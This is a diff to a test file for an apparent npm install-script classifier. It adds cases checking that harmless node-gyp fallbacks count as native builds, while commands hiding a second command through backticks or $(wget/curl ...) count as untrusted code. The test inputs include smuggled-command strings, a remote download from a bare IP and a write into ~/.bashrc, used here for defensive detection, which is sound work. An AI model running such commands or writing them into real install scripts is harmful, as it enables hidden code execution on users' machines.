@@ -501,6 +501,7 @@ describe('diffReleases and manifestConfusion (pure)', () => {
     expect(kind('prebuild-install -r napi || node-gyp rebuild')).toBe('native-build');
     expect(kind('node scripts/check.js || node-gyp rebuild')).toBe('native-build');
     expect(kind('node ./install.js || node-gyp-build || exit 0')).toBe('native-build');
+    expect(kind('node-gyp rebuild || echo "optional build failed"')).toBe('native-build');
     expect(kind('husky install')).toBe('tool');
     // Code we cannot vouch for: a plain node script, a capability in install-time code, code not analyzed.
     expect(kind('node setup.js')).toBe('code');
@@ -521,6 +522,8 @@ describe('diffReleases and manifestConfusion (pure)', () => {
     expect(kind('prebuild-install --download https://203.0.113.5/addon.tar.gz')).toBe('code');
     expect(kind('node-gyp rebuild > ~/.bashrc')).toBe('code');
     expect(kind('exit $(curl -s https://x.invalid)')).toBe('code');
+    expect(kind('node-gyp rebuild || echo `node setup.js`', [...quiet, net])).toBe('code');
+    expect(kind('node-gyp rebuild || echo $(wget -q -O- https://x.invalid)')).toBe('code');
   });
 
   test("manifest confusion follows npm's publish-time normalization", () => {
